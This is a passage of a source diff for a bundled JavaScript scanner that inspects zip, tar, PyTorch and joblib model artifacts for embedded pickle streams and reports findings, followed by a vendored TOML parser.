+        const alone = entry.compressedSize <= this.budget ? zipLzmaAsAlone(await readRange(compressed, 0, entry.compressedSize), entry.uncompressedSize) : null;
+        if (!alone) {
+          this.warn("LZMA member is malformed or larger than the decompression limit; not inspected", member);
+          continue;
+        }
+        compressed = memorySource(alone);
+      }
+      if (entry.method === METHOD_STORED) {
+        head = await readRange(compressed, 0, HEAD_BYTES);
+      } else if (entry.method === METHOD_DEFLATE || entry.method === METHOD_BZIP2 || entry.method === METHOD_LZMA) {
+        codec = entry.method === METHOD_DEFLATE ? "deflate-raw" : entry.method === METHOD_BZIP2 ? "bz2" : "lzma";
+        const first = await this.decompressBounded(codec, compressed, member, SNIFF_BYTES);
+        if (!expectsPickle(entry.name) && !couldStartPickle(first.bytes) && sniffFormat(first.bytes) === "unknown") continue;
+        const whole = first.bytes.length < SNIFF_BYTES || first.error !== void 0;
+        head = whole ? first.bytes : (await this.decompressBounded(codec, compressed, member, HEAD_BYTES)).bytes;
+      } else {
+        this.addIssue(
+          {
+            kind: "uninspectable",
+            severity: "medium",
+            message: `zip member ${entry.name} uses compression method ${entry.method}, which Pathfinder cannot decode`
+          },
+          member,
+          0
+        );
+        continue;
+      }
+      const expectPickle = expectsPickle(entry.name);
+      const pickleLike = looksLikePickle(head);
+      const nested = sniffFormat(head) !== "unknown";
+      if (pickleLike || expectPickle) row.role = "pickle";
+      if (!pickleLike && !expectPickle && !nested) continue;
+      let memberSource = compressed;
+      if (codec) {
+        if (this.budget <= 0) {
+          this.warn("decompression limit reached; member not inspected", member);
+          continue;
+        }
+        const full = await this.decompressBounded(codec, compressed, member);
+        row.size = full.bytes.length;
+        memberSource = memorySource(full.bytes);
+      }
+      this.queue.push({ source: memberSource, member, origin: 0, depth: item.depth + 1, expectPickle });
+    }
+    return true;
+  }
+  // ---- tar (legacy PyTorch) ----------------------------------------------------------------------
+  async inspectTar(item) {
+    const listing = await listTar(item.source, MAX_TAR_ENTRIES);
+    for (const warning of listing.warnings) this.warn(warning, item.member);
+    const files = listing.entries.filter((e) => e.type === "0" || e.type === "7");
+    const legacy = files.some((e) => e.name === "pickle") && files.some((e) => e.name === "sys_info");
+    if (legacy) this.traits.add("torch-legacy");
+    for (const entry of files) {
+      const member = join(item.member, entry.name);
+      const source = sliceSource(item.source, entry.dataOffset, entry.size);
+      const row = {
+        name: member,
+        container: "tar",
+        offset: entry.dataOffset,
+        size: entry.size,
+        compressedSize: entry.size,
+        method: "stored",
+        role: "other"
+      };
+      this.layout.push(row);
+      if (legacy && (entry.name === "storages" || entry.name === "tensors")) {
+        row.role = "pickle";
+        const located = entry.name === "storages" ? await locateLegacyStorages(source, this.options.limits.maxOpcodes) : await locateLegacyTensors(source, this.options.limits.maxOpcodes);
+        await this.analyseRanges(source, member, located);
+        continue;
+      }
+      const head = await readRange(source, 0, HEAD_BYTES);
+      const expectPickle = legacy && LEGACY_TAR_MEMBERS.has(entry.name);
+      const pickleLike = looksLikePickle(head);
+      if (pickleLike || expectPickle) row.role = "pickle";
+      if (pickleLike || expectPickle || sniffFormat(head) !== "unknown") {
+        this.queue.push({ source, member, origin: 0, depth: item.depth + 1, expectPickle });
+      }
+    }
+  }
+  async analyseRanges(source, member, located) {
+    for (const warning of located.warnings) this.warn(warning, member);
+    for (const range of located.pickles) {
+      const bytes = await this.readPickleBytes(source, range.start, range.end - range.start, member);
+      this.record(analyzePickle(bytes, this.options), member, range.start);
+    }
+  }
+  // ---- pickles -----------------------------------------------------------------------------------
+  /** Analyses the pickle at the start of the item and every pickle stacked after it, then what follows. */
+  async inspectPickles(item) {
+    const source = item.source;
+    let position = 0;
+    let legacy = false;
+    for (let count = 0; count < MAX_STACKED_PICKLES && position < source.size; count++) {
+      if (count > 0 && !looksLikePickle(await readRange(source, position, HEAD_BYTES))) break;
+      const end = await this.analysePickleAt(item, position);
+      if (count === 0 && isLegacyTorchMagic(await readRange(source, 0, 32))) {
+        legacy = true;
+        this.traits.add("torch-legacy");
+      }
+      if (end === null || end <= position) return;
+      position = end;
+      if (legacy && count + 1 === LEGACY_STACKED_PICKLES) {
+        this.layout.push({
+          name: `${item.member ?? ""}[storage data]`,
+          container: "torch-legacy",
+          offset: item.origin + position,
+          size: source.size - position,
+          compressedSize: source.size - position,
+          method: "raw",
+          role: "tensor-data"
+        });
+        return;
+      }
+    }
+    if (position >= source.size) return;
+    await this.inspectTail(item, position);
+  }
+  /** Bytes after the last pickle: a zip (polyglot) or another container; otherwise just reported. */
+  async inspectTail(item, position) {
+    const head = await readRange(item.source, position, HEAD_BYTES);
+    if (await this.inspectZip(item, startsWith(head, ascii("PK")) ? position : -1)) return;
+    if (sniffFormat(head) !== "unknown") {
+      this.queue.push({
+        source: sliceSource(item.source, position, item.source.size - position),
+        ...item.member !== void 0 ? { member: item.member } : {},
+        origin: item.origin + position,
+        depth: item.depth + 1
+      });
+      return;
+    }
+    this.warn(`${item.source.size - position} bytes after the pickle at offset ${item.origin + position} were not inspected`, item.member);
+  }
+  /** Analyses one pickle stream at `position`; returns the offset just past it, or null if it did not end. */
+  async analysePickleAt(item, position) {
+    const end = await this.analyseStreamAt(item, position);
+    if (item.depth === 0 || position > 0) {
+      const size = (end ?? item.source.size) - position;
+      this.layout.push({
+        name: `${item.member ?? ""}[pickle @${item.origin + position}]`,
+        container: "pickle",
+        offset: item.origin + position,
+        size,
+        compressedSize: size,
+        method: "raw",
+        role: "pickle"
+      });
+    }
+    return end;
+  }
+  async analyseStreamAt(item, position) {
+    const { source, member } = item;
+    const framing = await locateJoblibArrays(source, position, this.options.limits.maxOpcodes);
+    if (framing.end !== null && (framing.arrays.length > 0 || framing.largeStrings.length > 0)) {
+      if (framing.arrays.length > 0) this.traits.add("joblib");
+      await this.analyseWithout(item, position, framing.end, framing.arrays, framing.largeStrings);
+      return framing.end;
+    }
+    if (framing.arrays.length > 0 && framing.error) {
+      this.warn(`joblib array data could not be located (${framing.error.message}); analysing the stream as is`, member);
+    }
+    const length = framing.end !== null ? framing.end - position : source.size - position;
+    const bytes = await this.readPickleBytes(source, position, length, member);
+    const analysis = analyzePickle(bytes, this.options);
+    this.record(analysis, member, item.origin + position);
+    if (framing.end !== null) return framing.end;
+    return analysis.bytesConsumed > 0 ? position + analysis.bytesConsumed : null;
+  }
+  /**
+   * Analyses the pickle [start, end) with raw data cut out, so that a multi-GB file is never read whole:
+   * joblib arrays (bytes between opcodes) are removed, large string arguments keep their opcode with the
+   * length rewritten to 0. Offsets in the analysis are mapped back to the original bytes. joblib object
+   * arrays are analysed as the separate pickles they are.
+   */
+  async analyseWithout(item, start2, end, arrays, strings) {
+    const { source, member } = item;
+    const cuts = [
+      ...arrays.map((a) => ({ offset: a.offset, length: a.length })),
+      ...strings.map((s) => ({ offset: s.payload, length: s.length, zero: { at: s.lengthField, size: s.lengthSize } }))
+    ].sort((a, b) => a.offset - b.offset);
+    for (const array of arrays) {
+      this.layout.push({
+        name: `${member ?? ""}[array ${array.dtype} ${JSON.stringify(array.shape)}]`,
+        container: "joblib",
+        offset: item.origin + array.offset,
+        size: array.length,
+        compressedSize: array.length,
+        method: "raw",
+        role: array.objectPickle ? "pickle" : "tensor-data"
+      });
+    }
+    for (const string of strings) {
+      this.layout.push({
+        name: `${member ?? ""}[inline data @${item.origin + string.payload}]`,
+        container: "pickle",
+        offset: item.origin + string.payload,
+        size: string.length,
+        compressedSize: string.length,
+        method: "raw",
+        role: "tensor-data"
+      });
+    }
+    const kept = [];
+    const chunks = [];
+    let cursor = start2;
+    let spliced = 0;
+    const keep = async (to, zero) => {
+      let bytes = await this.readPickleBytes(source, cursor, to - cursor, member);
+      if (zero) {
+        bytes = bytes.slice();
+        bytes.fill(0, zero.at - cursor, zero.at - cursor + zero.size);
+      }
+      kept.push({ from: cursor, to, at: spliced });
+      chunks.push(bytes);
+      spliced += bytes.length;
+    };
+    for (const cut of cuts) {
+      if (cut.offset < cursor) continue;
+      await keep(cut.offset, cut.zero);
+      cursor = cut.offset + cut.length;
+    }
+    await keep(end);
+    const analysis = withoutArrayWrapperIssues(analyzePickle(concatBytes(chunks), this.options), arrays.length > 0);
+    const toOriginal = (offset) => {
+      let piece = kept[0];
+      for (const candidate of kept) if (candidate.at <= offset) piece = candidate;
+      return piece.from + (offset - piece.at) - start2;
+    };
+    this.record(remapOffsets(analysis, toOriginal), member, item.origin + start2);
+    for (const array of arrays) {
+      if (!array.objectPickle) continue;
+      const bytes = await this.readPickleBytes(source, array.offset, array.length, member);
+      this.record(analyzePickle(bytes, this.options), member, item.origin + array.offset);
+    }
+  }
+  async readPickleBytes(source, offset, length, member) {
+    const cap = this.options.limits.maxDecompressedBytes;
+    if (length > cap) {
+      this.warn(`pickle of ${length} bytes exceeds the ${cap}-byte limit; only its start was analysed`, member);
+      return readRange(source, offset, cap);
+    }
+    return readRange(source, offset, length);
+  }
+  record(analysis, member, baseOffset) {
+    this.analyses.push({ ...member !== void 0 ? { member } : {}, baseOffset, analysis });
+    if (analysis.error && analysis.isPickle) {
+      this.warn(`pickle analysis stopped at offset ${baseOffset + analysis.error.offset}: ${analysis.error.message}`, member);
+    }
+    const pending = [{ analysis, base: baseOffset }];
+    while (pending.length > 0) {
+      const { analysis: current, base, nestedIn } = pending.pop();
+      const hasNested = current.nested.length > 0;
+      for (const issue of current.issues) {
+        if (issue.kind === "nested-pickle" && hasNested) continue;
+        const located = nestedIn === void 0 ? { ...issue, ...issue.offset !== void 0 ? { offset: base + issue.offset } : {} } : { ...issue, offset: nestedIn, message: `${issue.message} (in a pickle nested at offset ${nestedIn})` };
+        this.addIssue(located, member, 0, nestedIn === void 0 ? { analysis: current, base } : void 0);
+      }
+      for (const inner of current.nested) {
+        pending.push({ analysis: inner.analysis, base: 0, nestedIn: nestedIn ?? base + inner.offset });
+      }
+    }
+  }
+  // ---- findings ----------------------------------------------------------------------------------
+  findings() {
+    const findings = [];
+    const seen = /* @__PURE__ */ new Set();
+    for (const { issue, member, baseOffset, from } of this.issues) {
+      const rule = ruleForIssue(issue);
+      const fingerprint = stableHash([rule.id, this.relPath, member ?? "", issue.global ?? issue.message].join("\0"));
+      if (seen.has(fingerprint)) continue;
+      seen.add(fingerprint);
+      const offset = issue.offset ?? baseOffset;
+      findings.push({
+        ruleId: rule.id,
+        ruleName: rule.name,
+        message: member ? `${issue.message} (in ${member})` : issue.message,
+        severity: issue.severity,
+        confidence: rule.confidence,
+        location: {
+          file: this.relPath,
+          line: 1,
+          column: 1,
+          endLine: 1,
+          endColumn: 1,
+          snippet: opcodeListing(issue, offset, from),
+          ...member !== void 0 ? { member } : {},
+          offset
+        },
+        cwe: rule.cwe,
+        owasp: rule.owasp,
+        fingerprint
+      });
+    }
+    return findings;
+  }
+};
+var MAX_LISTING_LINES = 8;
+function opcodeListing(issue, offset, from) {
+  const lines = [];
+  if (from && issue.global) {
+    const { analysis, base } = from;
+    const rows = [
+      ...analysis.imports.filter((i2) => i2.normalized === issue.global).map((i2) => [i2.offset, `${i2.opcode} ${i2.normalized}`]),
+      ...analysis.calls.filter((c) => c.callee === issue.global).map((c) => [c.offset, `${c.opcode} ${c.callee}(${c.args})`])
+    ];
+    rows.sort((a, b) => a[0] - b[0]);
+    for (const [at, text] of rows.slice(0, MAX_LISTING_LINES)) lines.push(`@${base + at}  ${text}`);
+  }
+  if (lines.length === 0) lines.push(`@${offset}  ${issue.global ?? issue.kind}`);
+  return lines.join("\n");
+}
+function join(parent, child) {
+  if (child === void 0) return parent;
+  return parent ? `${parent}/${child}` : child;
+}
+function withoutArrayWrapperIssues(analysis, arraysLocated) {
+  if (!arraysLocated) return analysis;
+  const wrapper = /(^|\.)numpy_pickle\.NumpyArrayWrapper$/;
+  return { ...analysis, issues: analysis.issues.filter((issue) => !(issue.global && wrapper.test(issue.global))) };
+}
+function remapOffsets(analysis, map) {
+  return {
+    ...analysis,
+    imports: analysis.imports.map((i2) => ({ ...i2, offset: map(i2.offset) })),
+    calls: analysis.calls.map((c) => ({ ...c, offset: map(c.offset) })),
+    persistentIds: analysis.persistentIds.map((p) => ({ ...p, offset: map(p.offset) })),
+    issues: analysis.issues.map((i2) => i2.offset === void 0 ? i2 : { ...i2, offset: map(i2.offset) }),
+    nested: analysis.nested.map((n) => ({ ...n, offset: map(n.offset) })),
+    ...analysis.error ? { error: { ...analysis.error, offset: map(analysis.error.offset) } } : {}
+  };
+}
+
+// src/artifacts/index.ts
+function isArtifactCandidate(relPath, head) {
+  const lower = relPath.toLowerCase();
+  if (ARTIFACT_EXTENSIONS.some((ext) => lower.endsWith(ext))) return true;
+  if (head.length === 0) return false;
+  const format = sniffFormat(head);
+  if (format !== "unknown" && format !== "tar" && format !== "zlib") return true;
+  return looksLikeStrongPickle(head);
+}
+function looksLikeStrongPickle(head) {
+  return head[0] === 128 && head[1] !== void 0 && head[1] <= 5 && looksLikePickle(head);
+}
+
+// src/project/byte-source.ts
+import { closeSync, fstatSync, openSync, readSync } from "node:fs";
+var WHOLE_READ_LIMIT = 4 * 1024 * 1024;
+async function openFileByteSource(path) {
+  const fd = openSync(path, "r");
+  try {
+    const { size } = fstatSync(fd);
+    if (size <= WHOLE_READ_LIMIT) {
+      const bytes = readFully(fd, 0, size);
+      closeSync(fd);
+      return {
+        size: bytes.length,
+        read: async (offset, length) => bytes.subarray(Math.max(0, offset), Math.max(0, offset) + Math.max(0, length)),
+        close: async () => {
+        }
+      };
+    }
+    let closed = false;
+    return {
+      size,
+      async read(offset, length) {
+        const start2 = Math.max(0, Math.min(offset, size));
+        return readFully(fd, start2, Math.max(0, Math.min(length, size - start2)));
+      },
+      async close() {
+        if (closed) return;
+        closed = true;
+        closeSync(fd);
+      }
+    };
+  } catch (error) {
+    closeSync(fd);
+    throw error;
+  }
+}
+function readFully(fd, position, length) {
+  const buffer = new Uint8Array(length);
+  let got = 0;
+  while (got < length) {
+    const bytesRead = readSync(fd, buffer, got, length - got, position + got);
+    if (bytesRead === 0) break;
+    got += bytesRead;
+  }
+  return got === length ? buffer : buffer.subarray(0, got);
+}
+
+// src/project/artifacts.ts
+async function scanArtifactFiles(files, pickle, onScanned) {
+  const result2 = { findings: [], errors: [], scanned: 0 };
+  const unreadable = (file, e) => {
+    const err2 = e;
+    result2.errors.push({ file: file.relPath, kind: "unreadable", level: "warning", message: `cannot read file: ${err2.code ?? err2.message}` });
+  };
+  for (const file of files) {
+    try {
+      if (!isArtifactCandidate(file.relPath, readHead(file.absPath))) continue;
+    } catch (e) {
+      unreadable(file, e);
+      continue;
+    }
+    let source;
+    try {
+      source = await openFileByteSource(file.absPath);
+    } catch (e) {
+      unreadable(file, e);
+      continue;
+    }
+    try {
+      const scanned = await scanArtifact(source, file.relPath, pickle);
+      result2.findings.push(...scanned.findings);
+      result2.errors.push(...scanned.errors);
+      result2.scanned++;
+      onScanned?.();
+    } catch (e) {
+      result2.errors.push({ file: file.relPath, kind: "internal", level: "error", message: `internal error while scanning artifact: ${e.message}` });
+    } finally {
+      await source.close();
+    }
+  }
+  return result2;
+}
+function readHead(path) {
+  const fd = openSync2(path, "r");
+  try {
+    const head = new Uint8Array(SNIFF_BYTES);
+    return head.subarray(0, readSync2(fd, head, 0, SNIFF_BYTES, 0));
+  } finally {
+    closeSync2(fd);
+  }
+}
+function splitRulesets(specs) {
+  if (specs.length === 0) return { python: [], runPython: true, artifactRules: [...ARTIFACT_RULES] };
+  const python = [];
+  const chosen = /* @__PURE__ */ new Map();
+  for (const raw of specs) {
+    const spec = raw.trim();
+    const [lang, name2] = spec.includes("/") ? spec.split("/", 2) : ["", spec];
+    const isArtifact = lang.toLowerCase() === "artifact" || lang === "" && /^PICKLE-ARTIFACT-/i.test(name2);
+    if (!isArtifact) {
+      python.push(raw);
+      continue;
+    }
+    const lower = name2.toLowerCase();
+    const matches = lower === "all" || lower === "artifacts" ? ARTIFACT_RULES : ARTIFACT_RULES.filter((r) => r.id.toLowerCase() === lower);
+    if (matches.length === 0) {
+      return { error: `unknown ruleset "${spec}" (artifact rulesets: artifact/all or artifact/<PICKLE-ARTIFACT-ID>)` };
+    }
+    for (const rule of matches) chosen.set(rule.id, rule);
+  }
+  return {
+    python,
+    runPython: python.length > 0,
+    artifactRules: [...chosen.values()].sort((a, b) => a.id.localeCompare(b.id))
+  };
+}
+
+// src/project/config.ts
+var import_picomatch = __toESM(require_picomatch2(), 1);
+import { readFileSync, statSync } from "node:fs";
+import { basename, dirname, isAbsolute, join as join2, relative, resolve as resolve2, sep } from "node:path";
+
+// node_modules/smol-toml/dist/error.js
+function getLineColFromPtr(string, ptr) {
+  let lines = string.slice(0, ptr).split(/\r?\n/);
+  return [lines.length, lines.pop().length + 1];
+}
+function makeCodeBlock(string, line, column) {
+  let lines = string.split(/\r?\n/);
+  let codeblock = "";
+  let numberLen = (Math.log10(line + 1) | 0) + 1;
+  for (let i2 = line - 1; i2 <= line + 1; i2++) {
+    let l = lines[i2 - 1];
+    if (!l)
+      continue;
+    codeblock += i2.toString().padEnd(numberLen, " ");
+    codeblock += ":  ";
+    codeblock += l;
+    codeblock += "\n";
+    if (i2 === line) {
+      codeblock += " ".repeat(numberLen + column + 2);
+      codeblock += "^\n";
+    }
+  }
+  return codeblock;
+}
+var TomlError = class _TomlError extends Error {
+  line;
+  column;
+  codeblock;
+  constructor(message15, options) {
+    const [line, column] = getLineColFromPtr(options.toml, options.ptr);
+    const codeblock = makeCodeBlock(options.toml, line, column);
+    super(`Invalid TOML document: ${message15}
+
+${codeblock}`, options);
+    this.line = line;
+    this.column = column;
+    this.codeblock = codeblock;
+  }
+  /** @internal */
+  static x(message15, ctx, ptr) {
+    throw new _TomlError(message15, { toml: ctx.s, ptr: ptr ?? ctx.p });
+  }
+};
+
+// node_modules/smol-toml/dist/primitive.js
+function parseString(ctx) {
+  let startPtr = ctx.p;
+  let c = ctx.s.charCodeAt(ctx.p++);
+  let first = c;
+  let isLiteral = c === 39;
+  let isMultiline = c === ctx.s.charCodeAt(ctx.p) && c === ctx.s.charCodeAt(ctx.p + 1);
+  if (isMultiline) {
+    if ((c = ctx.s.charCodeAt(ctx.p += 2)) === 10)
+      ctx.p++;
+    else if (c === 13 && ctx.s.charCodeAt(ctx.p + 1) === 10)
+      ctx.p += 2;
+  }
+  let parsed = "";
+  let sliceStart = ctx.p;
+  let state = 0;
+  for (; ctx.p < ctx.s.length; ctx.p++) {
+    c = ctx.s.charCodeAt(ctx.p);
+    if (isMultiline && (c === 10 || c === 13 && ctx.s.charCodeAt(ctx.p + 1) === 10)) {
+      state = state && 3;
+    } else if (c < 32 && c !== 9 || c === 127) {
+      TomlError.x("control characters are not allowed in strings", ctx);
+    } else if ((!state || state === 3) && c === first && (!isMultiline || ctx.s.charCodeAt(ctx.p + 1) === first && ctx.s.charCodeAt(ctx.p + 2) === first)) {
+      if (isMultiline) {
+        if (ctx.s.charCodeAt(ctx.p + 3) === first)
+          ctx.p++;
+        if (ctx.s.charCodeAt(ctx.p + 3) === first)
+          ctx.p++;
+      }
+      if (!state) {
+        let s = ctx.s.slice(sliceStart, ctx.p);
+        parsed = parsed ? parsed + s : s;
+      }
+      ctx.p += isMultiline ? 3 : 1;
+      return parsed;
+    } else if (!state) {
+      if (!isLiteral && c === 92) {
+        parsed += ctx.s.slice(sliceStart, sliceStart = ctx.p);
+        state = 1;
+      }
+    } else if (state === 1) {
+      if (c === 120 || c === 117 || c === 85) {
+        let errPtr = ctx.p++ - 1;
+        let value = 0;
+        let len = c === 120 ? 2 : c === 117 ? 4 : 8;
+        for (let j = 0; j < len; j++, ctx.p++) {
+          let hex = ctx.s.charCodeAt(ctx.p);
+          let digit = (
+            /* 0-9 */
+            hex >= 48 && hex <= 57 ? hex - 48 : (
+              /* A-F */
+              hex >= 65 && hex <= 70 ? hex - 65 + 10 : (
+                /* a-f */
+                hex >= 97 && hex <= 102 ? hex - 97 + 10 : -1
+              )
+            )
+          );
+          if (digit < 0)
+            TomlError.x("invalid non-hex character in unicode escape", ctx);
+          value = value << 4 | digit;
+        }
+        if (value < 0 || value > 1114111 || value >= 55296 && value <= 57343) {
+          TomlError.x("invalid unicode escape", ctx, errPtr);
+        }
+        parsed += String.fromCodePoint(value);
+        sliceStart = ctx.p--;
+        state = 0;
+      } else if (isMultiline && (c === 32 || c === 9)) {
+        state = 2;
+      } else {
+        if (c === 98)
+          parsed += "\b";
+        else if (c === 116)
+          parsed += "	";
+        else if (c === 110)
+          parsed += "\n";
+        else if (c === 102)
+          parsed += "\f";
+        else if (c === 114)
+          parsed += "\r";
+        else if (c === 101)
+          parsed += "\x1B";
+        else if (c === 34)
+          parsed += '"';
+        else if (c === 92)
+          parsed += "\\";
+        else
+          TomlError.x("unrecognised escape sequence", ctx);
+        sliceStart = ctx.p + 1;
+        state = 0;
+      }
+    } else if (c !== 32 && c !== 9) {
+      if (state === 2)
+        TomlError.x("invalid escape: only line-ending whitespace may be escaped", ctx, sliceStart);
+      state = !isLiteral && c === 92 ? 1 : 0;
+      sliceStart = ctx.p;
+    }
+  }
+  TomlError.x("unfinished string", ctx, startPtr);
+}
+
+// node_modules/smol-toml/dist/date.js
+var DATE_TIME_RE = /^(\d{4}-\d{2}-\d{2})?[Tt ]?(?:(\d{2}):\d{2}(?::\d{2}(?:\.\d+)?)?)?(Z|z|[-+]\d{2}:\d{2})?$/i;
+var TomlDate = class _TomlDate extends Date {
+  #hasDate = false;
+  #hasTime = false;
+  #offset = null;
+  constructor(date, fasttype, unsafeDelim) {
+    let hasDate = true;
+    let hasTime = true;
+    let offset = "Z";
+    let c;
+    if (typeof date === "string") {
+      if (fasttype)
+        prep: {
+          if (fasttype < 3) {
+            if (+date.slice(11, 13) > 23) {
+              date = "";
+              break prep;
+            }
+            if (fasttype === 2) {
+              offset = null;
+              date += "Z";
+            } else if ((c = date.charCodeAt(date.length - 1)) !== 90 && c !== 122) {
+              offset = date.slice(date.length - 6);
+            }
+            if (unsafeDelim)
+              date = date.slice(0, 10) + "T" + date.slice(11);
+          } else if (fasttype === 4) {
+            date = +date.slice(0, 2) > 23 ? "" : `0000-01-01T${date}Z`;
+          }
+          hasDate = fasttype !== 4;
+          hasTime = fasttype !== 3;
+        }
+      else {
+        let match = date.match(DATE_TIME_RE);
+        if (match) {
+          if (!match[1]) {
+            hasDate = false;
+            date = `0000-01-01T${date}`;
+          }
+          hasTime = !!match[2];
+          hasTime && date[10] === " " && (date = date.replace(" ", "T"));
+          if (match[2] && +match[2] > 23) {
+            date = "";
+          } else {
+            offset = match[3] || null;
+            if (!offset && hasTime)
+              date += "Z";
+          }
+        } else {
+          date = "";
+        }
+      }
+    }
+    super(date);
+    if (!isNaN(this.getTime())) {
+      this.#hasDate = hasDate;
+      this.#hasTime = hasTime;
+      this.#offset = offset;
+    }
+  }
+  isDateTime() {
+    return this.#hasDate && this.#hasTime;
+  }
+  isLocal() {
+    return !this.#hasDate || !this.#hasTime || !this.#offset;
+  }
+  isDate() {
+    return this.#hasDate && !this.#hasTime;
+  }
+  isTime() {
+    return this.#hasTime && !this.#hasDate;
+  }
+  isValid() {
+    return this.#hasDate || this.#hasTime;
+  }
+  toISOString() {
+    let iso = super.toISOString();
+    if (this.isDate())
+      return iso.slice(0, 10);
+    if (this.isTime())
+      return iso.slice(11, 23);
+    if (this.#offset === null)
+      return iso.slice(0, -1);
+    if (this.#offset === "Z" || this.#offset === "z")
+      return iso;
+    let offset = +this.#offset.slice(1, 3) * 60 + +this.#offset.slice(4, 6);
+    offset = this.#offset[0] === "-" ? offset : -offset;
+    let offsetDate = new Date(this.getTime() - offset * 6e4);
+    return offsetDate.toISOString().slice(0, -1) + this.#offset;
+  }
+  static wrapAsOffsetDateTime(jsDate, offset = "Z") {
+    let date = new _TomlDate(jsDate);
+    date.#offset = offset;
+    return date;
+  }
+  static wrapAsLocalDateTime(jsDate) {
+    let date = new _TomlDate(jsDate);
+    date.#offset = null;
+    return date;
+  }
+  static wrapAsLocalDate(jsDate) {
+    let date = new _TomlDate(jsDate);
+    date.#hasTime = false;
+    date.#offset = null;
+    return date;
+  }
+  static wrapAsLocalTime(jsDate) {
+    let date = new _TomlDate(jsDate);
+    date.#hasDate = false;
+    date.#offset = null;
+    return date;
+  }
+};
+
+// node_modules/smol-toml/dist/extract.js
+function isDigit(char, base = 10) {
+  return base === 16 ? char > 47 && char < 58 || char > 64 && char < 71 || char > 96 && char < 103 : char > 47 && char < 48 + base;
+}
+function isEndOfValue(char, delim) {
+  return char === 32 || char === 9 || char === 10 || char === 13 || // Structure end or next value delimiter
+  delim && (char === delim || char === 44) || // Comment
+  char === 35;
+}
+function extractValue2(ctx, end) {
+  let errPtr = ctx.p;
+  let c = ctx.s.charCodeAt(ctx.p);
+  if (c === 91 || c === 123) {
+    ctx.d-- || TomlError.x("document contains excessively nested structures. aborting.", ctx);
+    let value = c === 91 ? parseArray(ctx) : parseInlineTable(ctx);
+    ctx.d++;
+    return value;
+  }
+  if (c === 34 || c === 39) {
+    return parseString(ctx);
+  }
+  if (c === 116) {
+    if (ctx.s.charCodeAt(++ctx.p) !== 114 || ctx.s.charCodeAt(++ctx.p) !== 117 || ctx.s.charCodeAt(++ctx.p) !== 101)
+      TomlError.x("invalid value", ctx, errPtr);
+    return ctx.p++, true;
+  }
+  if (c === 102) {
+    if (ctx.s.charCodeAt(++ctx.p) !== 97 || ctx.s.charCodeAt(++ctx.p) !== 108 || ctx.s.charCodeAt(++ctx.p) !== 115 || ctx.s.charCodeAt(++ctx.p) !== 101)
+      TomlError.x("invalid value", ctx, errPtr);
+    return ctx.p++, false;
+  }
+  if (c === 43 || c === 45) {
+    return parseNumber(ctx, ctx.p, ctx.s.charCodeAt(++ctx.p), 44 - c, end);
+  }
+  if (ctx.s.charCodeAt(ctx.p + 4) === 45 && ctx.s.charCodeAt(ctx.p + 7) === 45) {
+    return parseDate(ctx, c, end);
+  }
+  if (ctx.s.charCodeAt(ctx.p + 2) === 58) {
+    return parseTime(ctx, c, end);
+  }
+  return parseNumber(ctx, ctx.p, c, 0, end);
+}
+function parseNumber(ctx, startPtr, startChr, sign, endChr) {
+  let c = startChr;
+  let state = 0;
+  let hasUnderscores = false;
+  if (c === 105) {
+    if (ctx.s.charCodeAt(++ctx.p) !== 110 || ctx.s.charCodeAt(++ctx.p) !== 102)
+      TomlError.x("invalid value", ctx, startPtr);
+    return ctx.p++, (sign || 1) / 0;
+  }
+  if (c === 110) {
+    if (ctx.s.charCodeAt(++ctx.p) !== 97 || ctx.s.charCodeAt(++ctx.p) !== 110)
+      TomlError.x("invalid value", ctx, startPtr);
+    return ctx.p++, NaN;
+  }
+  if (c === 48) {
+    if (++ctx.p >= ctx.s.length || isEndOfValue(c = ctx.s.charCodeAt(ctx.p), endChr))
+      return ctx.bi === true ? 0n : 0;
+    if (!sign) {
+      if (c === 120)
+        return parseIntegerBaseN(ctx, startPtr, 16, endChr);
+      else if (c === 98)
+        return parseIntegerBaseN(ctx, startPtr, 2, endChr);
+      else if (c === 111)
+        return parseIntegerBaseN(ctx, startPtr, 8, endChr);
+    }
+    if (c === 46)
+      state = 2;
+    else if (c === 101 || c === 69)
+      state = 4;
+    else
+      TomlError.x("illegal leading zero", ctx, startPtr);
+  } else if (!isDigit(c))
+    TomlError.x("invalid value", ctx, startPtr);
+  while (++ctx.p < ctx.s.length && (c = ctx.s.charCodeAt(ctx.p), !isEndOfValue(c, endChr))) {
+    if (!state)
+      state = 1;
+    if (c === 95) {
+      if (!(state & 1))
+        TomlError.x("illegal underscore", ctx);
+      state += 11;
+      hasUnderscores = true;
+    } else if (state === 1 && c === 46)
+      state = 2;
+    else if ((state === 1 || state === 3) && (c === 101 || c === 69))
+      state = 4;
+    else if (state === 4 && (c === 43 || c === 45)) {
+      state = 6;
+    } else if (!isDigit(c))
+      TomlError.x(`illegal character in numeric literal`, ctx);
+    else if (state > 9)
+      state -= 11;
+    else if (!(state & 1))
+      state++;
+  }
+  if (!state) {
+    let val = (startChr - 48) * (sign || 1);
+    return ctx.bi === true ? BigInt(val) : val;
+  }
+  if (!(state & 1))
+    TomlError.x("unfinished numeric value", ctx, startPtr);
+  let str = ctx.s.slice(startPtr, ctx.p);
+  if (hasUnderscores)
+    str = str.replaceAll("_", "");
+  return state > 1 ? parseFloat(str) : parseInteger(ctx, str, 10, startPtr);
+}
+function parseIntegerBaseN(ctx, startPtr, base, endChr) {
+  let c, underscore = 1;
+  while (++ctx.p < ctx.s.length && (c = ctx.s.charCodeAt(ctx.p), !isEndOfValue(c, endChr))) {
+    if (c === 95) {
+      if (underscore & 1)
+        TomlError.x("illegal underscore", ctx);
+      underscore = 3;
+    } else if (!isDigit(c, base))
+      TomlError.x(`illegal character in numeric literal`, ctx);
+    else if (underscore & 1)
+      underscore--;
+  }
+  if (underscore & 1)
+    TomlError.x("unfinished numeric value", ctx);
+  let str = ctx.s.slice(startPtr + 2, ctx.p);
+  if (underscore)
+    str = str.replaceAll("_", "");
+  return parseInteger(ctx, str, base, startPtr);
+}
+function parseInteger(ctx, str, base, startPtr) {
+  if (ctx.bi !== true)
+    int: {
+      let val = parseInt(str, base);
+      if (!Number.isSafeInteger(val)) {
+        if (ctx.bi)
+          break int;
+        TomlError.x("integer value cannot be represented losslessly", ctx, startPtr);
+      }
+      return val;
+    }
+  return base === 10 ? BigInt(str) : BigInt((base === 2 ? "0b" : base === 8 ? "0o" : "0x") + str);
+}
+function parseDate(ctx, c, endChr) {
+  let startPtr = ctx.p++, unsafeSeparator;
+  if (!isDigit(c) || !isDigit(ctx.s.charCodeAt(ctx.p++)) || !isDigit(ctx.s.charCodeAt(ctx.p++)) || !isDigit(ctx.s.charCodeAt(ctx.p++))) {
+    return parseNumber(ctx, ctx.p = startPtr, c, 0, endChr);
+  }
